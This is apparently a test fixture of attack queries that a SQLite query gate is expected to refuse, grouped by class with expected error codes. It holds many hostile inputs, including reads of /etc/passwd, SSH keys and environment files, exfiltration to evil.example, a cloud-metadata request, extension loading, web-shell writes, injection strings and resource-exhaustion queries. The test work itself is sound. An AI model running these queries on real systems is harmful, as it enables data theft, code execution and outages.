-- # Attacks on the checks in the SQL of SQLite, on the tables of fixture.sql. Below each line `-- refuse: CODE` stands one attack, up to the
-- # next such line; where the line ends in `json`, as a JSON string. CODE is the code of the refusal. How each class does harm: docs/gate.md.

-- class: change

-- refuse: policy_refused
DROP TABLE orders

-- refuse: policy_refused
drop table if exists main.orders

-- refuse: policy_refused
DrOp /**/ TaBlE "orders"

-- refuse: policy_refused
DROP VIEW IF EXISTS v

-- refuse: policy_refused
DROP INDEX i

-- refuse: policy_refused
DROP TRIGGER t

-- refuse: policy_refused
DELETE FROM orders

-- refuse: policy_refused
DELETE FROM customers WHERE 1 = 1 RETURNING *

-- refuse: policy_refused
DELETE FROM orders ORDER BY order_id LIMIT 5

-- refuse: policy_refused
UPDATE customers SET credit_limit = 1e9

-- refuse: policy_refused
UPDATE OR IGNORE customers SET name = 'x' WHERE customer_id = 1

-- refuse: policy_refused
UPDATE orders SET status = c.name FROM customers c WHERE c.customer_id = orders.customer_id

-- refuse: policy_refused
INSERT INTO orders VALUES (1, 1, 1, NULL, 'open', NULL, NULL)

-- refuse: policy_refused
INSERT OR REPLACE INTO stores (store_id) VALUES (1)

-- refuse: policy_refused
INSERT OR ABORT INTO refunds SELECT * FROM refunds

-- refuse: policy_refused
INSERT INTO stores (store_id) VALUES (1) ON CONFLICT DO UPDATE SET store_name = 'x'

-- refuse: policy_refused
INSERT INTO orders DEFAULT VALUES

-- refuse: policy_refused
REPLACE INTO customers SELECT * FROM customers

-- refuse: policy_refused
CREATE TABLE loot AS SELECT * FROM customers

-- refuse: policy_refused
CREATE TEMP TABLE t (a)

-- refuse: policy_refused
CREATE TABLE t (a, b) STRICT, WITHOUT ROWID

-- refuse: policy_refused
CREATE TEMPORARY VIEW orders AS SELECT * FROM hr.salaries

-- refuse: policy_refused
CREATE VIEW v AS SELECT 1

-- refuse: policy_refused
CREATE UNIQUE INDEX i ON orders (order_id)

-- refuse: policy_refused
CREATE TRIGGER t AFTER INSERT ON orders BEGIN DELETE FROM customers; END

-- refuse: policy_refused
CREATE TEMP TRIGGER t INSTEAD OF DELETE ON v BEGIN SELECT 1; END

-- refuse: policy_refused
CREATE VIRTUAL TABLE f USING fts5(body)

-- refuse: policy_refused
CREATE VIRTUAL TABLE c USING csv(filename = '/etc/passwd')

-- refuse: policy_refused
CREATE VIRTUAL TABLE temp.x USING fsdir

-- refuse: policy_refused
CREATE VIRTUAL TABLE z USING zipfile('/tmp/a.zip')

-- refuse: policy_refused
CREATE VIRTUAL TABLE d USING dbstat(main)

-- refuse: policy_refused
ALTER TABLE orders ADD COLUMN backdoor

-- refuse: policy_refused
ALTER TABLE orders RENAME TO o2

-- refuse: policy_refused
ALTER TABLE orders DROP COLUMN remark

-- refuse: policy_refused
ALTER TABLE customers RENAME COLUMN name TO n

-- refuse: policy_refused
VACUUM

-- refuse: policy_refused
REINDEX

-- refuse: policy_refused
REINDEX orders

-- refuse: policy_refused
ANALYZE

-- refuse: policy_refused
ANALYZE main.orders


-- class: write-inside-select

-- refuse: policy_refused
WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x

-- refuse: policy_refused
WITH x AS (INSERT INTO orders DEFAULT VALUES RETURNING *) SELECT * FROM x

-- refuse: policy_refused
WITH x AS (UPDATE orders SET status = 'x' RETURNING 1) SELECT 1

-- refuse: policy_refused
WITH x AS (SELECT 1) DELETE FROM orders WHERE order_id IN (SELECT * FROM x)

-- refuse: policy_refused
WITH x AS (SELECT 1) INSERT INTO refunds (refund_id) SELECT * FROM x

-- refuse: policy_refused
WITH x AS (SELECT 1) UPDATE orders SET status = 'x'

-- refuse: invalid_sql
WITH x AS (SELECT * FROM customers) REPLACE INTO customers SELECT * FROM x

-- refuse: policy_refused
WITH RECURSIVE x(n) AS (VALUES (1)) DELETE FROM customers

-- refuse: policy_refused
EXPLAIN DELETE FROM orders

-- refuse: policy_refused
EXPLAIN QUERY PLAN SELECT * FROM orders

-- refuse: policy_refused
EXPLAIN SELECT * FROM hr.salaries

-- refuse: invalid_sql
SELECT * FROM (DELETE FROM orders RETURNING order_id)

-- refuse: policy_refused
SELECT order_id INTO loot FROM orders

-- refuse: policy_refused
SELECT writefile('/tmp/x', name) FROM customers

-- refuse: policy_refused
SELECT edit(name) FROM customers

-- refuse: policy_refused
SELECT edit('x', 'vim')

-- refuse: policy_refused
SELECT load_extension('evil')

-- refuse: policy_refused
SELECT name FROM customers ORDER BY load_extension('evil')

-- refuse: policy_refused
SELECT fts3_tokenizer('simple', x) FROM orders

-- refuse: policy_refused
SELECT sqlite_rename_table('main', 'a', 'b', 'c', 'd', 1)

-- refuse: policy_refused
SELECT sqlite_rename_column(1, 2, 3, 4, 5, 6, 7, 8, 9)

-- refuse: invalid_sql
SELECT fts5(?1)

-- refuse: policy_refused
SELECT zipfile('a', 'b')

-- refuse: policy_refused
SELECT last_insert_rowid()

-- refuse: policy_refused
SELECT changes(), total_changes()

-- refuse: policy_refused
SELECT * FROM orders FOR UPDATE

-- refuse: invalid_sql
SELECT * FROM orders WHERE order_id IN (DELETE FROM refunds RETURNING order_id)

-- refuse: invalid_sql
SELECT name, (UPDATE customers SET name = 'x' RETURNING 1) FROM customers

-- refuse: policy_refused
SELECT * FROM fsdir('/')

-- refuse: policy_refused
SELECT CASE WHEN 1 THEN load_extension('x') END

-- refuse: policy_refused
SELECT coalesce(NULL, writefile('x', 'y'))

-- refuse: policy_refused
SELECT group_concat(load_extension(name)) FROM customers

-- refuse: policy_refused
SELECT name FROM customers GROUP BY name HAVING load_extension('x')

-- refuse: policy_refused
SELECT sum(quantity) OVER (ORDER BY writefile('a', 'b')) FROM order_lines

-- refuse: policy_refused
SELECT count(*) FILTER (WHERE load_extension('x')) FROM orders

-- refuse: policy_refused
SELECT * FROM orders LIMIT load_extension('x')

-- refuse: policy_refused
VALUES (load_extension('x'))

-- refuse: policy_refused
SELECT iif(1, writefile('x', 'y'), 2)

-- refuse: policy_refused
SELECT json_object('a', readfile('/etc/passwd'))

-- refuse: policy_refused
SELECT "load_extension"('x')

-- refuse: policy_refused
SELECT [load_extension]('x')

-- refuse: policy_refused
SELECT `load_extension`('x')

-- refuse: policy_refused
SELECT load_extension /* x */ ('x')


-- class: several-statements

-- refuse: policy_refused
SELECT 1; DROP TABLE orders

-- refuse: policy_refused
SELECT name FROM customers; DELETE FROM customers; --

-- refuse: policy_refused
SELECT ';'; VACUUM INTO '/tmp/x'

-- refuse: policy_refused
; DROP TABLE orders

-- refuse: policy_refused
SELECT 1;;; DELETE FROM orders

-- refuse: policy_refused
SELECT 1 /* ; */ ; ATTACH 'x' AS x

-- refuse: policy_refused
BEGIN

-- refuse: policy_refused
BEGIN IMMEDIATE; DELETE FROM orders; COMMIT

-- refuse: policy_refused
BEGIN EXCLUSIVE TRANSACTION

-- refuse: policy_refused
COMMIT

-- refuse: policy_refused
END TRANSACTION

-- refuse: policy_refused
ROLLBACK

-- refuse: policy_refused
ROLLBACK TO s

-- refuse: policy_refused
SAVEPOINT s

-- refuse: policy_refused
RELEASE s

-- refuse: policy_refused
SELECT 'it''s'; DROP TABLE orders; SELECT '--'

-- refuse: policy_refused
SELECT name FROM customers WHERE name = 'x'; UPDATE customers SET name = 'y'; --'

-- refuse: policy_refused
SELECT "a;b"; DROP TABLE orders

-- refuse: policy_refused
SELECT [a;b] FROM orders; DROP TABLE orders

-- refuse: policy_refused json
"SELECT 1;\u0000DROP TABLE orders"

-- refuse: policy_refused json
"SELECT 1;\u00a0DROP TABLE orders"

-- refuse: policy_refused json
"SELECT 1 --\r;DROP TABLE orders"

-- refuse: policy_refused json
"SELECT 1;\ufeffDROP TABLE orders"

-- refuse: policy_refused json
"SELECT 1;\fDROP TABLE orders"

-- refuse: policy_refused json
"SELECT 1\n;\n\nDELETE FROM orders"

-- refuse: policy_refused json
"SELECT 1;\u200bDELETE FROM orders"


-- class: file-read

-- refuse: policy_refused
SELECT readfile('/etc/passwd')

-- refuse: policy_refused
SELECT hex(readfile('/root/.ssh/id_rsa'))

-- refuse: policy_refused
SELECT CAST(readfile('/etc/shadow') AS TEXT) AS t

-- refuse: policy_refused
SELECT name || readfile('/etc/hostname') FROM customers

-- refuse: policy_refused
SELECT * FROM readfile('/etc/passwd')

-- refuse: policy_refused
SELECT * FROM fsdir('/etc')

-- refuse: policy_refused
SELECT name, data FROM fsdir('.') WHERE name LIKE '%.env'

-- refuse: policy_refused
SELECT * FROM zipfile('/tmp/a.zip')

-- refuse: policy_refused
SELECT * FROM csv('/etc/passwd')

-- refuse: policy_refused
SELECT * FROM '/etc/passwd'

-- refuse: policy_refused
SELECT * FROM "data.csv"

-- refuse: policy_refused
SELECT * FROM [/etc/passwd]

-- refuse: policy_refused
SELECT * FROM `../../app.db`

-- refuse: policy_refused
SELECT * FROM 'file:/etc/passwd?mode=ro'

-- refuse: policy_refused
SELECT * FROM lsmode('x')

-- refuse: policy_refused
SELECT length(readfile(char(47, 101, 116, 99)))

-- refuse: policy_refused
SELECT name FROM customers WHERE name IN (SELECT readfile('a'))

-- refuse: policy_refused
SELECT (SELECT readfile('x')) UNION SELECT readfile('y')

-- refuse: policy_refused
SELECT sqlar_uncompress(data, sz) FROM sqlar

-- refuse: policy_refused
WITH f AS (SELECT readfile('/proc/self/environ') AS e) SELECT e FROM f

-- refuse: policy_refused
.read /etc/passwd

-- refuse: policy_refused
.import /etc/passwd orders

-- refuse: policy_refused
.shell id

-- refuse: policy_refused
.open /var/lib/app.db


-- class: file-write

-- refuse: policy_refused
VACUUM INTO '/tmp/copy.db'

-- refuse: policy_refused
VACUUM main INTO '/var/www/html/shop.db'

-- refuse: policy_refused
ATTACH '/tmp/new.db' AS n

-- refuse: policy_refused
ATTACH DATABASE '/var/www/html/x.php' AS lol

-- refuse: policy_refused
SELECT writefile('/var/www/x.php', '<?php')

-- refuse: policy_refused
SELECT writefile('/tmp/' || name, name) FROM customers

-- refuse: policy_refused
PRAGMA journal_mode = OFF

-- refuse: policy_refused
PRAGMA temp_store_directory = '/tmp'

-- refuse: invalid_sql
SELECT * INTO OUTFILE '/tmp/x' FROM orders

-- refuse: policy_refused
.output /tmp/x

-- refuse: policy_refused
.backup /tmp/b.db

-- refuse: policy_refused
.dump

-- refuse: policy_refused
SELECT fts5_rowid('x')

-- refuse: policy_refused
SELECT sqlite3_serialize('main')


-- class: network

-- refuse: policy_refused
ATTACH 'file:x?vfs=http' AS w

-- refuse: policy_refused
ATTACH 'https://evil.example/x.db' AS w

-- refuse: policy_refused
ATTACH ':memory:' AS m

-- refuse: policy_refused
ATTACH (SELECT name FROM customers LIMIT 1) AS a

-- refuse: policy_refused
DETACH main

-- refuse: policy_refused
SELECT http_get('https://evil.example')

-- refuse: policy_refused
SELECT http_get_body('http://169.254.169.254/latest/meta-data/')

-- refuse: policy_refused
SELECT * FROM http_get('https://evil.example')

-- refuse: policy_refused
SELECT dns_lookup(name || '.evil.example') FROM customers

-- refuse: policy_refused
SELECT * FROM 'https://evil.example/x'


-- class: code

-- refuse: policy_refused
SELECT load_extension('/tmp/evil.so', 'sqlite3_evil_init')

-- refuse: policy_refused
SELECT load_extension(char(47) || 'tmp/e')

-- refuse: policy_refused
SELECT eval('DROP TABLE orders')

-- refuse: policy_refused
SELECT shell('id')

-- refuse: policy_refused
SELECT system('id')

-- refuse: policy_refused
SELECT exec('id')

-- refuse: policy_refused
SELECT python('import os')

-- refuse: policy_refused
SELECT define('pwn', '1')

-- refuse: policy_refused
SELECT lua('os.execute("id")')

-- refuse: policy_refused
SELECT js('1')

-- refuse: policy_refused
SELECT fts3_tokenizer('x', x'4141414141414141')

-- refuse: policy_refused
SELECT rtreenode(2, x'00')

-- refuse: policy_refused
SELECT rtreedepth(x'00')

-- refuse: policy_refused
SELECT geopoly_debug(1)

-- refuse: policy_refused
SELECT sqlite_dbpage FROM sqlite_dbpage


-- class: other-schemas

-- refuse: policy_refused
SELECT * FROM hr.salaries

-- refuse: policy_refused
SELECT * FROM HR."Salaries"

-- refuse: policy_refused
SELECT * FROM [hr].[salaries]

-- refuse: policy_refused
SELECT * FROM `admin`.`users`

-- refuse: policy_refused
SELECT * FROM 'hr'.'salaries'

-- refuse: invalid_sql
SELECT * FROM "hr.salaries"

-- refuse: invalid_sql
SELECT * FROM salaries

-- refuse: policy_refused
SELECT * FROM temp.orders

-- refuse: policy_refused
SELECT login, password_hash FROM admin.users

-- refuse: policy_refused
SELECT customer_id, name FROM customers UNION SELECT employee_id, iban FROM hr.salaries

-- refuse: policy_refused
SELECT name FROM customers UNION ALL SELECT secret FROM admin.api_keys

-- refuse: policy_refused
SELECT name FROM customers EXCEPT SELECT name FROM hr.salaries

-- refuse: policy_refused
SELECT name FROM customers INTERSECT SELECT login FROM admin.users

-- refuse: policy_refused
SELECT * FROM customers JOIN hr.salaries

-- refuse: policy_refused
SELECT * FROM customers, hr.salaries

-- refuse: policy_refused
SELECT * FROM customers LEFT JOIN hr.salaries s ON s.name = customers.name

-- refuse: policy_refused
SELECT * FROM customers NATURAL JOIN admin.users

-- refuse: policy_refused
SELECT (SELECT iban FROM hr.salaries LIMIT 1)

-- refuse: policy_refused
SELECT * FROM customers WHERE credit_limit < (SELECT max(salary) FROM hr.salaries)

-- refuse: policy_refused
SELECT name FROM customers WHERE EXISTS (SELECT 1 FROM admin.users WHERE is_admin = 1)

-- refuse: invalid_sql
SELECT name FROM customers WHERE name IN hr.salaries

-- refuse: policy_refused
SELECT name FROM customers WHERE customer_id IN (SELECT employee_id FROM hr.salaries)

-- refuse: policy_refused
SELECT name FROM customers ORDER BY (SELECT salary FROM hr.salaries LIMIT 1)

-- refuse: policy_refused
SELECT count(*) FROM orders GROUP BY (SELECT iban FROM hr.salaries)

-- refuse: policy_refused
SELECT count(*) FROM orders HAVING (SELECT count(*) FROM admin.users)

-- refuse: policy_refused
WITH s AS (SELECT * FROM hr.salaries) SELECT * FROM s

-- refuse: policy_refused
WITH orders AS (SELECT * FROM hr.salaries) SELECT * FROM orders

-- refuse: policy_refused
WITH RECURSIVE r(n, x) AS (SELECT 1, iban FROM hr.salaries UNION ALL SELECT n + 1, x FROM r WHERE n < 3) SELECT * FROM r

-- refuse: policy_refused
WITH hr AS (SELECT 1) SELECT * FROM hr.salaries

-- refuse: policy_refused
SELECT * FROM (SELECT * FROM (SELECT * FROM admin.audit_log))

-- refuse: policy_refused
SELECT * FROM (customers JOIN hr.salaries USING (name))

-- refuse: policy_refused
VALUES ((SELECT secret FROM admin.api_keys))

-- refuse: policy_refused
SELECT * FROM orders LIMIT (SELECT salary FROM hr.salaries)

-- refuse: policy_refused
SELECT CASE (SELECT grade FROM hr.reviews LIMIT 1) WHEN 'A' THEN 1 END

-- refuse: policy_refused
SELECT hr.salaries.iban FROM hr.salaries

-- refuse: policy_refused
SELECT s.* FROM hr.salaries AS s

-- refuse: policy_refused
SELECT * FROM sqlite_master

-- refuse: policy_refused
SELECT sql FROM sqlite_master WHERE type = 'table'

-- refuse: policy_refused
SELECT * FROM sqlite_schema

-- refuse: policy_refused
SELECT * FROM main.sqlite_master

-- refuse: policy_refused
SELECT * FROM temp.sqlite_master

-- refuse: policy_refused
SELECT * FROM sqlite_temp_master

-- refuse: policy_refused
SELECT * FROM sqlite_temp_schema

-- refuse: policy_refused
SELECT * FROM hr.sqlite_master

-- refuse: policy_refused
SELECT * FROM "sqlite_master"

-- refuse: policy_refused
SELECT * FROM 'sqlite_master'

-- refuse: policy_refused
SELECT * FROM [sqlite_master]

-- refuse: policy_refused
SELECT * FROM SQLITE_MASTER

-- refuse: policy_refused
SELECT name FROM customers UNION SELECT sql FROM sqlite_master

-- refuse: policy_refused
SELECT name FROM customers WHERE (SELECT count(*) FROM sqlite_master) > 3

-- refuse: policy_refused
SELECT * FROM sqlite_sequence

-- refuse: policy_refused
SELECT * FROM sqlite_stat1

-- refuse: policy_refused
SELECT * FROM sqlite_stat4

-- refuse: invalid_sql
SELECT * FROM dbstat

-- refuse: policy_refused
SELECT * FROM sqlite_dbpage

-- refuse: policy_refused
SELECT * FROM sqlite_stmt

-- refuse: policy_refused
SELECT * FROM bytecode('SELECT 1')

-- refuse: policy_refused
SELECT * FROM tables_used('SELECT * FROM hr.salaries')

-- refuse: policy_refused
SELECT * FROM completion('SEL')

-- refuse: policy_refused
SELECT * FROM sqlite_memstat

-- refuse: policy_refused
SELECT * FROM pragma_database_list

-- refuse: policy_refused
SELECT * FROM pragma_database_list()

-- refuse: policy_refused
SELECT * FROM pragma_table_info('salaries', 'hr')

-- refuse: policy_refused
SELECT * FROM pragma_table_list

-- refuse: policy_refused
SELECT * FROM pragma_function_list

-- refuse: policy_refused
SELECT * FROM pragma_compile_options()

-- refuse: policy_refused
SELECT * FROM pragma_index_list('orders')

-- refuse: policy_refused
SELECT file FROM pragma_database_list WHERE name = 'main'

-- refuse: policy_refused
SELECT m.name FROM sqlite_master m, pragma_table_info(m.name) p

-- refuse: policy_refused
SELECT sqlite_version()

-- refuse: policy_refused
SELECT sqlite_source_id()

-- refuse: policy_refused
SELECT sqlite_compileoption_used('ENABLE_FTS5')

-- refuse: policy_refused
SELECT sqlite_compileoption_get(1)

-- refuse: policy_refused
SELECT sqlite_offset(name) FROM customers

-- refuse: policy_refused
SELECT subtype(name) FROM customers

-- refuse: policy_refused
SELECT sqlite_log(1, 'x')

-- refuse: policy_refused
PRAGMA table_info(orders)

-- refuse: policy_refused
PRAGMA database_list

-- refuse: invalid_sql
SELECT iban FROM customers

-- refuse: invalid_sql
SELECT salaries.iban FROM customers

-- refuse: invalid_sql
SELECT name, password_hash FROM customers

-- refuse: invalid_sql
SELECT * FROM main.salaries

-- refuse: policy_refused
SELECT * FROM orders JOIN json_each((SELECT secret FROM admin.api_keys))


-- class: dynamic-sql

-- refuse: policy_refused
SELECT * FROM query('SELECT * FROM hr.salaries')

-- refuse: policy_refused
SELECT eval('SELECT ' || name) FROM customers

-- refuse: policy_refused
SELECT * FROM eval('SELECT 1')

-- refuse: invalid_sql
SELECT * FROM statement_vtab

-- refuse: policy_refused
CREATE VIRTUAL TABLE s USING statement((SELECT * FROM hr.salaries))

-- refuse: policy_refused
SELECT * FROM orders WHERE order_id = ?

-- refuse: invalid_sql
SELECT * FROM orders WHERE order_id = ?1

-- refuse: policy_refused
SELECT * FROM orders WHERE order_id = :id

-- refuse: policy_refused
SELECT * FROM orders WHERE order_id = @id

-- refuse: invalid_sql
SELECT * FROM orders WHERE order_id = $id

-- refuse: policy_refused
SELECT ?

-- refuse: policy_refused
EXECUTE IMMEDIATE 'DROP TABLE orders'

-- refuse: policy_refused
PREPARE p FROM 'SELECT 1'

-- refuse: policy_refused
EXECUTE p

-- refuse: policy_refused
SELECT json_each.value FROM json_each('["hr.salaries"]')

-- refuse: policy_refused
SELECT * FROM carray(1, 2)

-- refuse: policy_refused
SELECT * FROM prefixes('x')

-- refuse: invalid_sql
SELECT * FROM wholenumber


-- class: parser-differences

-- refuse: policy_refused
SELECT*FROM"hr"."salaries"

-- refuse: policy_refused
SELECT * FROM/**/hr/**/./**/salaries

-- refuse: policy_refused
SELECT * FROM hr . salaries

-- refuse: policy_refused
SELECT '\' UNION SELECT iban FROM hr.salaries --'

-- refuse: policy_refused
SELECT name FROM customers WHERE name = '\' OR 1=1; DROP TABLE orders --'

-- refuse: policy_refused
SELECT name FROM customers WHERE name = "x" UNION SELECT iban FROM hr.salaries --"

-- refuse: invalid_sql
SELECT 1 /* unfinished FROM hr.salaries

-- refuse: policy_refused
SELECT 1 /* /* not nested */ FROM hr.salaries

-- refuse: policy_refused
SELECT name FROM customers /* */ UNION SELECT iban FROM hr.salaries /* */

-- refuse: policy_refused
SELECT name FROM customers -- x
  UNION SELECT iban FROM hr.salaries

-- refuse: policy_refused json
"SELECT * FROM hr\u200b.salaries"

-- refuse: policy_refused json
"SELECT\u00a0*\u00a0FROM hr.salaries"

-- refuse: policy_refused json
"SELECT * FROM \uff48\uff52.salaries"

-- refuse: policy_refused json
"SELECT * FROM h\u0433.salaries"

-- refuse: policy_refused json
"SELECT * FROM cust\u043emers"

-- refuse: policy_refused json
"SELECT name FROM customers --\rUNION SELECT iban FROM hr.salaries"

-- refuse: policy_refused json
"SELECT name FROM customers --\u2028UNION SELECT iban FROM hr.salaries"

-- refuse: policy_refused json
"SELECT name FROM customers WHERE name = 'x\u0000' UNION SELECT iban FROM hr.salaries"

-- refuse: policy_refused json
"SELECT 1\u0000; DROP TABLE orders"

-- refuse: policy_refused json
"SELECT\u000bname FROM hr.salaries"

-- refuse: policy_refused json
"SELECT\fname FROM hr.salaries"

-- refuse: policy_refused json
"SELECT '\u202e' FROM customers"

-- refuse: policy_refused json
"SELECT name /*\u2067*/ FROM customers"

-- refuse: policy_refused json
"SELECT 'a\ud800' FROM customers"

-- refuse: policy_refused json
"\ufeffSELECT * FROM hr.salaries"

-- refuse: policy_refused json
"\u200bSELECT name FROM customers"

-- refuse: policy_refused json
"SELECT name\u2060 FROM customers"

-- refuse: policy_refused json
"SELECT 1\u3000FROM hr.salaries"

-- refuse: policy_refused
SELECT 1FROM hr.salaries

-- refuse: invalid_sql
SELECT 0x1FROM hr.salaries

-- refuse: policy_refused
SELECT 1e3UNION SELECT iban FROM hr.salaries

-- refuse: policy_refused
SELECT $$x$$ FROM hr.salaries

-- refuse: invalid_sql
SELECT # comment
  * FROM hr.salaries

-- refuse: policy_refused
SELECT * FROM customers /*! UNION SELECT * FROM hr.salaries */ UNION SELECT 1, 2, 3, 4, 5, 6, iban FROM hr.salaries

-- refuse: policy_refused
SELECT * FROM main.hr.salaries

-- refuse: policy_refused
SELECT * FROM hr.salaries INDEXED BY x

-- refuse: policy_refused
SELECT * FROM hr.salaries NOT INDEXED

-- refuse: policy_refused
WITH "hr.salaries" AS (SELECT 1) SELECT * FROM hr.salaries

-- refuse: policy_refused
WITH salaries AS (SELECT 1 AS iban) SELECT iban FROM hr.salaries

-- refuse: policy_refused
SELECT [name] FROM [customers] UNION SELECT [iban] FROM [hr].[salaries]

-- refuse: policy_refused
SELECT name FROM customers WHERE name == 'x' OR EXISTS (SELECT * FROM "admin" . "users")

-- refuse: policy_refused
SELECT name FROM customers WHERE name IS NOT DISTINCT FROM (SELECT login FROM admin.users)


-- class: encoded

-- refuse: policy_refused
SELECT load_extension(char(101, 118, 105, 108))

-- refuse: policy_refused
SELECT load_extension(unhex('6576696C'))

-- refuse: policy_refused
SELECT load_extension(replace('exil', 'x', 'v'))

-- refuse: policy_refused
SELECT readfile(x'2F6574632F706173737764')

-- refuse: policy_refused
SELECT readfile(CAST(x'2F6574632F706173737764' AS TEXT))

-- refuse: policy_refused
SELECT readfile(printf('%s%s', '/etc', '/passwd'))

-- refuse: policy_refused
SELECT readfile(substr('xx/etc/passwd', 3))

-- refuse: policy_refused
SELECT eval(char(68, 82, 79, 80))

-- refuse: invalid_sql
%53ELECT * FROM hr.salaries

-- refuse: invalid_sql
SELECT%20*%20FROM%20hr.salaries

-- refuse: invalid_sql
SELECT+*+FROM+hr.salaries

-- refuse: policy_refused
&#83;ELECT 1

-- refuse: policy_refused
\u0053ELECT * FROM hr.salaries

-- refuse: policy_refused
' OR '1'='1

-- refuse: invalid_sql
' UNION SELECT iban FROM hr.salaries --

-- refuse: policy_refused
1; DROP TABLE orders

-- refuse: policy_refused
') OR ('1'='1


-- class: exhaustion

-- refuse: policy_refused
SELECT randomblob(2000000000)

-- refuse: policy_refused
SELECT zeroblob(2000000000)

-- refuse: policy_refused
SELECT hex(zeroblob(1000000000))

-- refuse: policy_refused
SELECT replace(hex(zeroblob(100000000)), '00', 'xxxxxxxxxxxxxxxx')

-- refuse: policy_refused
SELECT printf('%1000000000d', 1)

-- refuse: policy_refused
SELECT printf('%.1000000000c', 'x')

-- refuse: policy_refused
SELECT printf('%.*c', 1000000000, 'x')

-- refuse: policy_refused
SELECT format('%*s', 1000000000, 'x')

-- refuse: policy_refused
SELECT printf('%' || '999999999' || 'd', 1)

-- refuse: policy_refused
SELECT printf(name) FROM customers

-- refuse: policy_refused
SELECT replace(printf('%.9999c', 'x'), 'x', printf('%.9999c', 'y'))

-- refuse: policy_refused
SELECT replace(replace(printf('%.9999c', 'x'), 'x', 'xxxxxxxxxxxxxxxxxxxxxxxx'), 'x', 'yyyyyyyyyyyyyyyyyyyyyyyyy')

-- refuse: policy_refused
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r

-- refuse: policy_refused
WITH RECURSIVE r(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM r) SELECT max(n) FROM r

-- refuse: policy_refused
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE 1) SELECT max(n) FROM r

-- refuse: policy_refused
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE 1 = 1) SELECT max(n) FROM r

-- refuse: policy_refused
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r JOIN orders ON 1) SELECT count(*) FROM r

-- refuse: policy_refused
WITH RECURSIVE r(x) AS (SELECT 'x' UNION ALL SELECT x || x FROM r) SELECT length(x) FROM r

-- refuse: invalid_sql
WITH r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r

-- refuse: policy_refused
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n > 0) SELECT max(n) FROM r

-- refuse: policy_refused
SELECT count(*) FROM order_lines a, order_lines b, order_lines c, order_lines d, order_lines e, order_lines f

-- refuse: policy_refused
SELECT * FROM generate_series(1, 100000000000)

-- refuse: policy_refused
SELECT sum(value) FROM generate_series(1, 9e18)

-- refuse: policy_refused
SELECT count(*) FROM generate_series(1, 1000000), generate_series(1, 1000000)

-- refuse: policy_refused
SELECT sleep(100)

-- refuse: policy_refused
SELECT benchmark(1000000000, 1)

-- refuse: invalid_sql
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))

-- refuse: invalid_sql
SELECT abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))

-- refuse: invalid_sql
SELECT 1 FROM orders JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b

-- refuse: invalid_sql
